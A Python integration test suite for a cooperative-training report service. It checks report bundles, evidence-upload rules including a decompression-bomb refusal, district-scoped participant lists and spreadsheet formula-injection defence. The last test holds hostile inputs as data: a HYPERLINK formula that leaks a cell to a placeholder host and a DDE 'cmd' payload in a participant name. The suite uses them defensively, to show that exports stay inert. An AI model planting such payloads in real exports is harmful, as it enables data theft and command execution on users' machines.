"""The report bundle over training's real PostgreSQL through its HTTP API: a 30-person batch with a seven-session
agenda, an official, attendance, closing by component and 20 photographs; the laporan pelaksanaan (PDF read back
with pdftotext, DOCX with python-docx), the daftar nominatif, bundle.zip with its manifest, and the evidence rules
(type from the content, limits, EXIF stripped, bombs refused, nothing half-stored, deletion by admins, audited)."""
from __future__ import annotations

import io
import json
import re
import time
import zipfile
from datetime import date, timedelta
from hashlib import sha256

import pytest
from docx import Document
from openpyxl import load_workbook
from PIL import Image

from services.training.bootstrap import create_training_app
from services.training.config import TrainingSettings
from services.training.service_layer import roster
from shared.events.envelope import Envelope
from shared.events.registration import ParticipantEnrolled
from tests.fixtures import factories
from tests.integration.training.conftest import PUBLIC_URL, TrainingService, day_at
from tests.integration.training.test_agenda import narasumber, officer
from tests.integration.training.test_documents_api import keep_png, text_of
from tests.integration.training.test_officials import NIP, official

DISTRICTS = ("64.02", "64.08", "64.09")
NAMES = tuple(f"{first} {last}" for last in ("Rahmawati", "Pratama", "Hidayat") for first in
              ("Siti", "Ahmad", "Rina", "Budi", "Dewi", "Agus", "Nurul", "Hendra", "Yuni", "Rahmat"))
COMPONENTS = [{"component": "honor_narasumber", "planned": 16_200_000, "realised": 16_200_000},
              {"component": "uang_saku_peserta", "planned": 9_000_000, "realised": 8_700_000},
              {"component": "akomodasi", "planned": 13_500_000, "realised": 13_050_000},
              {"component": "konsumsi", "planned": 8_100_000, "realised": 7_965_000},
              {"component": "lainnya", "planned": 13_200_000, "realised": 1_250_000}]
REALISED = sum(c["realised"] for c in COMPONENTS)  # 47.165.000
TIMINGS: dict[str, float] = {}


@pytest.fixture
async def reports(pg_url, tmp_path):
    settings = TrainingSettings(database_url=pg_url, env="test", public_base_url=PUBLIC_URL,
                                signing_official="Drs. Contoh Pejabat, M.Si.",
                                evidence_url=f"file://{tmp_path / 'bukti'}")
    app = create_training_app(settings, start_background=False, handlers={})
    await app.state.runtime.start(run_relay=False, run_consumers=False)
    service = TrainingService(app)
    service.evidence_dir = tmp_path / "bukti"
    yield service
    await app.state.runtime.stop()


def jpeg(colour="steelblue", size=(1600, 1200), *, gps: bool = False) -> bytes:
    picture = Image.new("RGB", size, colour)
    out = io.BytesIO()
    if gps:
        exif = Image.Exif()
        exif[0x010F] = "Samsung"
        exif[0x8825] = {1: "S", 2: (0.0, 30.0, 15.0), 3: "E", 4: (117.0, 9.0, 0.0)}  # Samarinda, to the metre
        picture.save(out, "JPEG", exif=exif)
    else:
        picture.save(out, "JPEG", quality=70)
    return out.getvalue()


def photograph(size=(2400, 1800)) -> bytes:
    """As heavy as a phone's photo (noise does not compress): about 2.8 MB, 2 MB once re-encoded."""
    picture = Image.merge("RGB", tuple(Image.effect_noise(size, sigma) for sigma in (40, 30, 50)))
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=90)
    return out.getvalue()


def png(size=(640, 480)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "seagreen").save(out, "PNG")
    return out.getvalue()


def tiny_pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


async def upload(client, batch_id, content: bytes, name: str, *, kind="foto", caption="Peserta berdiskusi"):
    return await client.post(f"/api/v1/batches/{batch_id}/evidence", data={"kind": kind, "caption": caption},
                             files={"file": (name, content, "application/octet-stream")})


async def seed_batch(training, *, participants: int = 30, title: str = "Digitalisasi Usaha Koperasi") -> dict:
    """The seed batch: an official, two narasumber, seven sessions over three days, 30 participants from three
    kabupaten/kota; every session marked and closed, the batch closed by component."""
    admin = training.client()
    head = (await admin.post("/api/v1/officials", json=official())).json()
    speakers = [await narasumber(training, "Dr. Andi Pratama, M.M.", n=61),
                await narasumber(training, "Nurul Hidayah, S.Kom.", n=62)]
    body = factories.batch(start_in_days=0, days=3, trainers=["pelatih-1"], signing_official_id=head["id"],
                           title=title)
    start = date.fromisoformat(body["start_date"])
    slots = (("08:00", "09:30"), ("09:45", "12:00"), ("13:00", "15:15"))
    topics = ("Kebijakan pemberdayaan koperasi", "Literasi digital koperasi", "Pemasaran daring",
              "Pembukuan digital", "Tata kelola koperasi", "Praktik aplikasi kasir", "Rencana tindak lanjut")
    body["sessions"] = [{"date": (start + timedelta(days=i // 3)).isoformat(), "start_time": slots[i % 3][0],
                         "end_time": slots[i % 3][1], "topic": topic, "trainer_id": speakers[i % 2]["id"]}
                        for i, topic in enumerate(topics)]
    created = await admin.post("/api/v1/batches", json=body)
    assert created.status_code == 201, created.text
    batch = created.json()
    people = []
    async with training.runtime.uow() as uow:
        for i in range(participants):
            event = ParticipantEnrolled(**factories.enrolled(batch["id"], DISTRICTS[i % 3], full_name=NAMES[i],
                                                             position=("ketua", "bendahara", "pengawas")[i % 3]))
            envelope = Envelope.wrap(event, source="/sipelkop/registration", subject=str(event.enrollment_id),
                                     aggregate_version=1)
            await roster.apply_enrolled(uow, envelope, event)
            people.append(event.model_dump(mode="json"))
        await uow.commit()
    url = f"/api/v1/batches/{batch['id']}"
    for s in (await admin.get(f"{url}/sessions")).json():
        marks = [{"participant_id": p["participant_id"], "status": "izin" if n == 0 and s["no"] == 2 else "hadir"}
                 for n, p in enumerate(people)]
        marked = await admin.put(f"{url}/sessions/{s['no']}/attendance",
                                 json={"marks": marks, "recorded_at": f"{s['date']}T15:30:00+08:00"})
        assert marked.status_code == 200, marked.text
        assert (await admin.post(f"{url}/sessions/{s['no']}/complete")).status_code == 200
    closed = await admin.post(f"{url}/close", json={"components": COMPONENTS})
    assert closed.status_code == 200, closed.text
    return batch


async def test_the_bundle_of_a_30_person_batch_with_20_photographs(reports):
    batch = await seed_batch(reports)
    staff, url = reports.client("training_staff"), f"/api/v1/batches/{batch['id']}"
    texts = {"background": "Koperasi di Kalimantan Timur memerlukan pengurus yang cakap mengelola usaha secara digital.",
             "aims": "Peserta mampu memasarkan produk koperasi secara daring.",
             "conclusions": "Pelatihan berjalan lancar; disarankan pendampingan lanjutan."}
    assert (await staff.put(f"{url}/report-texts", json=texts)).status_code == 200
    for n in range(20):
        sent = await upload(staff, batch["id"], photograph(), f"foto-{n + 1}.jpg", caption=f"Sesi {n % 7 + 1}: peserta berdiskusi (foto {n + 1})")
        assert sent.status_code == 201, sent.text
    receipt = await upload(staff, batch["id"], tiny_pdf(), "kuitansi konsumsi.pdf", kind="kuitansi",
                           caption="Kuitansi konsumsi hari pertama")
    assert receipt.status_code == 201, receipt.text

    started = time.perf_counter()
    bundle = await staff.get(f"{url}/bundle.zip")
    TIMINGS["bundle"] = time.perf_counter() - started
    print(f"\nbundle.zip of 30 participants, 7 sessions, 20 photographs: {TIMINGS['bundle']:.2f} s, "
          f"{len(bundle.content) / 1e6:.1f} MB")
    assert bundle.status_code == 200, bundle.text
    assert bundle.headers["content-disposition"].startswith(f'attachment; filename="laporan-{batch["code"]}.zip"')
    archive = zipfile.ZipFile(io.BytesIO(bundle.content))
    manifest = json.loads(archive.read("manifest.json"))
    names = set(archive.namelist()) - {"manifest.json"}
    assert {f["path"] for f in manifest["files"]} == names
    for entry in manifest["files"]:
        content = archive.read(entry["path"])
        assert (len(content), sha256(content).hexdigest()) == (entry["size"], entry["sha256"]), entry["path"]
    code = batch["code"]
    assert {f"laporan-pelaksanaan-{code}.pdf", f"laporan-pelaksanaan-{code}.docx", f"daftar-nominatif-{code}.xlsx",
            f"daftar-nominatif-{code}.pdf", f"kehadiran-{code}.xlsx"} <= names
    assert sorted(n for n in names if n.startswith("daftar-hadir/")) == [f"daftar-hadir/sesi-{i:02d}.pdf"
                                                                        for i in range(1, 8)]
    assert len([n for n in names if n.startswith("bukti/foto-kegiatan/")]) == 20
    assert [n for n in names if n.startswith("bukti/kuitansi/")] == ["bukti/kuitansi/21-kuitansi-konsumsi.pdf"]

    report_pdf = archive.read(f"laporan-pelaksanaan-{code}.pdf")
    keep_png(report_pdf, "laporan-pelaksanaan")
    text = text_of(report_pdf)
    for heading in ("LAPORAN PELAKSANAAN KEGIATAN", "BAB I PENDAHULUAN", "A. Latar Belakang", "B. Maksud dan Tujuan",
                    "C. Waktu dan Tempat", "BAB II PELAKSANAAN KEGIATAN", "A. Jadwal Acara, Narasumber dan Materi",
                    "B. Peserta", "C. Rekapitulasi Kehadiran", "D. Hasil Pre-test dan Post-test",
                    "E. Evaluasi Penyelenggaraan", "F. Realisasi Anggaran", "G. Dokumentasi", "BAB III PENUTUP",
                    "A. Kesimpulan dan Saran", "LAMPIRAN I: DAFTAR NOMINATIF PESERTA",
                    "LAMPIRAN II: DAFTAR HADIR PER SESI", "LAMPIRAN III: JADWAL ACARA"):
        assert heading in text, heading
    for expected in (texts["background"], texts["conclusions"], "Dr. Andi Pratama, M.M.", "Pemasaran daring",
                     f"NIP {NIP}", "Dr. H. Muhammad Zaini, S.E., M.Si.", "Kepala UPTD Pelatihan Koperasi dan UKM",
                     "Gambar 20. Sesi 6: peserta berdiskusi (foto 20)", "Kuitansi konsumsi hari pertama",
                     "Kabupaten Kutai Kartanegara 5 5 10", "Jumlah 15 15 30",
                     "Peserta yang memenuhi syarat kelulusan: 29 dari 30 orang."):
        assert expected in text, expected
    appendix = text[text.index("LAMPIRAN I: DAFTAR NOMINATIF PESERTA"):text.index("LAMPIRAN II")]
    assert all(name in appendix for name in NAMES) and appendix.count("Koperasi Sejahtera") == 30
    # The component table adds up to the realised total the batch closed with.
    budget = text[text.index("F. Realisasi Anggaran"):text.index("G. Dokumentasi")]
    realised = [int(m.replace(".", "")) for m in re.findall(
        r"(?:Honor narasumber|Uang saku peserta|Akomodasi|Konsumsi|Lainnya) [\d.]+ ([\d.]+)", budget)]
    assert len(realised) == 5 and sum(realised) == REALISED
    assert f"Jumlah 60.000.000 {REALISED:,}".replace(",", ".") in budget

    doc = Document(io.BytesIO(archive.read(f"laporan-pelaksanaan-{code}.docx")))
    tables = [[[c.text for c in row.cells] for row in t.rows] for t in doc.tables]
    nominative = next(t for t in tables if t[0][:3] == ["No", "Nama", "Jabatan"])
    assert [row[1] for row in nominative[1:]] == [r[1] for r in nominative[1:]] and \
        sorted(row[1] for row in nominative[1:]) == sorted(NAMES)
    components = next(t for t in tables if t[0][1:3] == ["Komponen", "Rencana (Rp)"])
    assert sum(int(row[3].replace(".", "")) for row in components[1:-1]) == REALISED
    assert components[-1][1:4] == ["Jumlah", "60.000.000", f"{REALISED:,}".replace(",", ".")]
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert "F. Realisasi Anggaran" in headings and "LAMPIRAN I: DAFTAR NOMINATIF PESERTA" in headings
    assert any(f"NIP {NIP}" in cell.text for t in doc.tables for row in t.rows for cell in row.cells)
    assert len(doc.inline_shapes) == 20

    grid = load_workbook(io.BytesIO(archive.read(f"daftar-nominatif-{code}.xlsx"))).active
    assert sorted(r[1] for r in grid.iter_rows(min_row=7, max_row=36, values_only=True)) == sorted(NAMES)


async def test_evidence_is_kept_without_its_metadata_and_bad_files_are_refused_whole(reports):
    batch = await seed_batch(reports, participants=3)
    staff, url = reports.client("training_staff"), f"/api/v1/batches/{batch['id']}/evidence"
    reports.app.state.settings = reports.app.state.settings.model_copy(update={
        "evidence_max_file_bytes": 600_000, "evidence_max_batch_bytes": 3_000_000})
    photographed = jpeg(gps=True)
    assert Image.open(io.BytesIO(photographed)).getexif().get_ifd(0x8825)  # the phone's position is in the file
    sent = await upload(staff, batch["id"], photographed, "IMG_2023.JPG")
    assert sent.status_code == 201, sent.text
    kept = await staff.get(sent.json()["url"])
    assert kept.headers["content-type"] == "image/jpeg" and kept.content != photographed
    back = Image.open(io.BytesIO(kept.content))
    assert back.size == (1600, 1200) and not back.getexif() and b"Samsung" not in kept.content
    assert sha256(kept.content).hexdigest() == sent.json()["sha256"]
    thumb = await staff.get(sent.json()["thumbnail_url"])
    assert thumb.status_code == 200 and max(Image.open(io.BytesIO(thumb.content)).size) == 320

    def stored() -> int:
        return sum(1 for p in reports.evidence_dir.rglob("*") if p.is_file())

    before = stored()
    refusals = [
        (await upload(staff, batch["id"], tiny_pdf(), "foto.jpg"), 415, "file"),  # a PDF named as a photo
        (await upload(staff, batch["id"], b"PK\x03\x04" + b"\0" * 64, "bukti.png", kind="lainnya"), 415, "file"),
        (await upload(staff, batch["id"], tiny_pdf(), "scan.pdf", kind="foto"), 415, "file"),  # a photo is a picture
        (await upload(staff, batch["id"], png(), "daftar-hadir.png", kind="daftar_hadir",
                      caption="x" * 501), 422, "caption"),
        (await upload(staff, batch["id"], jpeg(size=(1200, 900)) + b"\0" * 600_000, "besar.jpg"), 413, "file"),
    ]
    bomb = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(bomb, "PNG")  # 12 KB that would unpack into 100 million pixels
    refusals.append((await upload(staff, batch["id"], bomb.getvalue(), "bom.png"), 413, "file"))
    for answer, status, field in refusals:
        assert answer.status_code == status, answer.text
        error = answer.json()["error"]
        assert error["fields"][0]["field"] == field and error["message"][0].isupper()
    assert "500 karakter" in refusals[3][0].json()["error"]["fields"][0]["message"]
    assert stored() == before and len((await staff.get(url)).json()) == 1

    # The batch's limit (3 MB here): uploads until it is reached, then 413 with nothing kept.
    photo, answers = photograph((800, 600)), []
    while len(answers) < 40 and (not answers or answers[-1].status_code == 201):
        answers.append(await upload(staff, batch["id"], photo, f"f{len(answers)}.jpg"))
    assert len(answers) > 5 and answers[-1].status_code == 413 and "per angkatan" in answers[-1].json()["error"]["fields"][0]["message"]
    listed = (await staff.get(url)).json()
    assert sum(e["size"] for e in listed) <= 3_000_000 and stored() == 2 * len(listed)

    # Deleting is an admin's, and it is audited.
    gone = listed[0]
    assert (await staff.delete(f"{url}/{gone['id']}")).status_code == 403
    admin = reports.client("admin")
    assert (await admin.delete(f"{url}/{gone['id']}")).status_code == 204
    assert (await admin.get(f"{url}/{gone['id']}")).status_code == 404 and stored() == 2 * (len(listed) - 1)
    trail = (await admin.get("/api/v1/audit", params={"entity": "evidence"})).json()
    assert [(e["action"], e["entity_id"]) for e in trail["items"][:1]] == [("deleted", gone["id"])]
    assert (await officer(reports).get(url)).status_code == 403


async def test_a_district_officer_gets_only_their_district_s_nominative_list(reports):
    batch = await seed_batch(reports, participants=9)
    url = f"/api/v1/batches/{batch['id']}/nominative"
    mine = await officer(reports, "64.08").get(f"{url}.xlsx", params={"district": "64.02"})  # asks for another's
    assert mine.status_code == 200, mine.text
    rows = [r for r in load_workbook(io.BytesIO(mine.content)).active.iter_rows(min_row=7, values_only=True)
            if isinstance(r[0], int)]
    assert len(rows) == 3 and {r[4] for r in rows} == {"Kabupaten Kutai Timur"}
    assert "64.08" in mine.headers["content-disposition"]
    paper = await officer(reports, "64.08").get(f"{url}.pdf")
    text = text_of(paper.content)
    assert "DAFTAR NOMINATIF PESERTA" in text and "Kabupaten Kutai Timur · 3 peserta" in text
    assert all(name not in text for name in NAMES[0:9:3])  # 64.02's participants
    refused = await officer(reports, "64.72").get(f"{url}.xlsx")
    assert refused.status_code == 403 and "Kota Samarinda" in refused.json()["error"]["message"]
    whole = await reports.client("training_staff").get(f"{url}.pdf", params={"district": "64.09"})
    assert "Kabupaten Penajam Paser Utara · 3 peserta" in text_of(whole.content)
    assert (await reports.client("viewer").get(f"{url}.xlsx")).status_code == 403


FORMULA = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'


async def test_a_formula_in_a_batch_title_and_a_name_is_inert_in_every_training_export(reports):
    batch = await seed_batch(reports, participants=3, title=FORMULA)
    async with reports.runtime.uow() as uow:  # a participant whose name was typed as a formula, too
        event = ParticipantEnrolled(**factories.enrolled(batch["id"], "64.02", full_name="@SUM(1+1)*cmd|' /C calc'!A0",
                                                         cooperative_name="-2+3"))
        await roster.apply_enrolled(uow, Envelope.wrap(event, source="/sipelkop/registration",
                                                       subject=str(event.enrollment_id), aggregate_version=1), event)
        await uow.commit()
    staff, url = reports.client("training_staff"), f"/api/v1/batches/{batch['id']}"
    books = {"attendance.xlsx": (await staff.get(f"{url}/attendance.xlsx")).content,
             "nominative.xlsx": (await staff.get(f"{url}/nominative.xlsx")).content}
    bundle = zipfile.ZipFile(io.BytesIO((await staff.get(f"{url}/bundle.zip")).content))
    books.update({n: bundle.read(n) for n in bundle.namelist() if n.endswith(".xlsx")})
    assert len(books) == 4
    for name, content in books.items():
        archive = zipfile.ZipFile(io.BytesIO(content))
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in s or "<f " in s for s in sheets), name  # no formula anywhere
        cells = [c for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), name
    # The file names stay ASCII and carry the real name in filename*.
    docx = await staff.get(f"{url}/report.docx")
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8\'\'[A-Za-z0-9%._-]+',
                        docx.headers["content-disposition"]), docx.headers["content-disposition"]
